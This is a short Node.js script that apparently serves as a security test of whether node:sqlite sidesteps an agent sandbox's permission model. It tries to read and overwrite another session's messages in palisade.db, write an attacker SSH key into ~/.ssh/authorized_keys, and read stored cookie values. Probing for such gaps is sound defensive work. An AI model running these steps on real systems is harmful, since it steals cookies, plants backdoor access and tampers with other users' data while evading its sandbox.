// node:sqlite opens files by path without asking the permission model. Tries to read and edit
// another session's messages in palisade.db, to create ~/.ssh/authorized_keys as an SQLite file
// holding a key line, and to read an SQLite file of the home. Input: {"db", "home", "cookies"}.
const input = JSON.parse(process.argv[1]);
const out = {};
let DatabaseSync;
try {
  ({ DatabaseSync } = require("node:sqlite"));
  out.module = "loaded";
} catch (e) {
  out.module = e.code;
}
const attempt = (name, fn) => {
  if (!DatabaseSync) return;
  try {
    out[name] = fn();
  } catch (e) {
    out[name] = `error:${e.code ?? ""}:${e.message}`;
  }
};
attempt("readMessages", () => {
  const db = new DatabaseSync(input.db);
  const rows = db.prepare("SELECT content FROM messages").all();
  db.close();
  return rows.map((r) => r.content);
});
attempt("editMessages", () => {
  const db = new DatabaseSync(input.db);
  const r = db.prepare("UPDATE messages SET content = 'INJECTED by the Agent'").run();
  db.close();
  return r.changes;
});
attempt("authorizedKeys", () => {
  const db = new DatabaseSync(`${input.home}/.ssh/authorized_keys`);
  db.exec(
    "CREATE TABLE k (line TEXT); INSERT INTO k VALUES ('\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey attacker\n')",
  );
  db.close();
  return "created";
});
attempt("readCookies", () => {
  const db = new DatabaseSync(input.cookies, { readOnly: true });
  const rows = db.prepare("SELECT value FROM cookies").all();
  db.close();
  return rows.map((r) => r.value);
});
process.stdout.write(JSON.stringify(out));
